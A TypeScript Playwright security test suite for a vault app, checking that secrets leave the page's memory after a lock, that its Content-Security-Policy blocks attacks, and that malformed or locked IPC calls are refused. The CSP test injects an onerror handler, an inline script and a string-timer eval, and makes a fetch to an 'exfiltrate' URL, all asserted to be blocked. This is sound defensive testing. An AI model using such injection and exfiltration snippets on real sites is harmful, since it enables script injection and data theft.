/**
 * What the page can and cannot do, in a real Chromium:
 * - after a lock, the page's JavaScript heap holds neither the passphrase nor the recovery key
 *   (a heap snapshot taken while they are on screen proves the method finds them);
 * - the Content-Security-Policy blocks injected script, inline handlers, eval and the network;
 * - calls through window.confidant are refused while locked and when malformed.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CreateVaultPage } from './pages/create-vault-page.ts';
import { ShellPage } from './pages/shell-page.ts';
import { UnlockPage } from './pages/unlock-page.ts';
import { launchChromium, openApp } from './support/harness.ts';
import { texts } from './support/texts.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
});

/** A full V8 heap snapshot of the page, after a garbage collection, as one string. */
async function heapSnapshot(page: Page): Promise<string> {
  const cdp = await page.context().newCDPSession(page);
  const chunks: string[] = [];
  cdp.on('HeapProfiler.addHeapSnapshotChunk', (event) => chunks.push(event.chunk));
  await cdp.send('HeapProfiler.enable');
  await cdp.send('HeapProfiler.collectGarbage');
  await cdp.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
  await cdp.detach();
  return chunks.join('');
}

describe('the page after a lock', () => {
  it('keeps neither the passphrase nor the recovery key in its memory', async () => {
    const app = await openApp(browser, { name: 'security-heap', language: 'en' });
    const t = texts('en');
    const passphrase = 'Mother of Pearl Quarry Lantern';
    try {
      // Strings the page holds before any key exists (library constants, e.g. "4417" in a
      // bundled table) cannot be a leak: a key group is a leak only if it was not there before.
      const before = await heapSnapshot(app.page);
      const create = new CreateVaultPage(app.page, t);
      await create.fill({ passphrase });
      await create.submit();
      const key = await create.recoveryKey();
      // Control: while the key is on screen, the snapshot does contain it.
      const during = await heapSnapshot(app.page);
      expect(during.includes(key.split('-')[4] ?? '?')).toBe(true);

      await create.writtenDown();
      await create.confirm(key);
      const shell = new ShellPage(app.page, t);
      await shell.navigation().waitFor();
      await shell.lock();
      const unlock = new UnlockPage(app.page, t);
      await unlock.heading().waitFor();
      await unlock.unlockWith(passphrase);
      await shell.navigation().waitFor();
      await shell.lock();
      await unlock.heading().waitFor();

      const after = await heapSnapshot(app.page);
      expect(after.includes(passphrase)).toBe(false);
      expect(after.includes(key)).toBe(false);
      for (const group of key.split('-')) {
        const quoted = `"${group}"`;
        expect(after.includes(quoted) && !before.includes(quoted), `group ${group}`).toBe(false);
      }
    } finally {
      await app.close();
    }
  });
});

describe('the Content-Security-Policy, enforced by Chromium', () => {
  it('blocks injected script, inline handlers, eval, and every network request', async () => {
    const app = await openApp(browser, { name: 'security-csp', language: 'en' });
    try {
      const outcome = await app.page.evaluate(async () => {
        const result: Record<string, string> = {};
        const host = document.createElement('div');
        host.innerHTML = '<img src="missing.png" onerror="window.__pwned = \'onerror\'">';
        document.body.append(host);
        const script = document.createElement('script');
        script.textContent = "window.__pwned = 'inline script'";
        document.body.append(script);
        // page.evaluate itself is exempt from CSP (it comes through DevTools), but a string
        // timer compiles its code later, in the page's own context, where the policy applies.
        const stringTimer = setTimeout as unknown as (code: string, delay: number) => number;
        stringTimer('window.__pwned = "string timer"', 0);
        try {
          await fetch('http://example.org/exfiltrate');
          result.fetch = 'sent';
        } catch (error) {
          result.fetch = (error as Error).name;
        }
        await new Promise((resolve) => setTimeout(resolve, 200));
        result.pwned = String((window as unknown as { __pwned?: string }).__pwned);
        return result;
      });
      expect(outcome).toEqual({ fetch: 'TypeError', pwned: 'undefined' });
      const violations = await app.cspViolations();
      expect(violations.some((v) => v.startsWith('script-src-attr'))).toBe(true);
      expect(violations.some((v) => v.startsWith('script-src-elem'))).toBe(true);
      expect(violations.some((v) => v.startsWith('connect-src'))).toBe(true);
      expect(violations.some((v) => v.startsWith('script-src eval'))).toBe(true);
      expect(app.strayRequests).toEqual([]);
    } finally {
      await app.close();
    }
  });
});

describe('calls through window.confidant', () => {
  it('are refused with VAULT_LOCKED while locked and VALIDATION when malformed, changing nothing', async () => {
    const app = await openApp(browser, { name: 'security-ipc', language: 'en' });
    try {
      const results = await app.page.evaluate(async () => {
        const api = window.confidant as unknown as Record<
          string,
          Record<string, (input: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>
        >;
        const code = async (call: Promise<{ ok: boolean; error?: { code: string } }>) =>
          (await call).error?.code ?? 'ok';
        return {
          settingsWhileLocked: await code(api.settings!.get!({})),
          changePassphraseWhileLocked: await code(
            api.vault!.changePassphrase!({ current: 'a', next: 'b' }),
          ),
          wrongType: await code(api.vault!.unlock!({ path: 42, secret: { passphrase: 'x' } })),
          extraField: await code(api.app!.setLanguage!({ language: 'ru', admin: true })),
          hugeString: await code(
            api.vault!.prepareCreate!({
              path: '/tmp/v.confidant',
              passphrase: 'x'.repeat(5_000_000),
            }),
          ),
          notAnObject: await code(api.vault!.lock!('now')),
        };
      });
      expect(results).toEqual({
        settingsWhileLocked: 'VAULT_LOCKED',
        changePassphraseWhileLocked: 'VAULT_LOCKED',
        wrongType: 'VALIDATION',
        extraField: 'VALIDATION',
        hugeString: 'VALIDATION',
        notAnObject: 'VALIDATION',
      });
      expect(app.core.status().state).toBe('no-vault');
      expect(await app.page.evaluate(() => document.documentElement.lang)).toBe('en');
    } finally {
      await app.close();
    }
  });
});
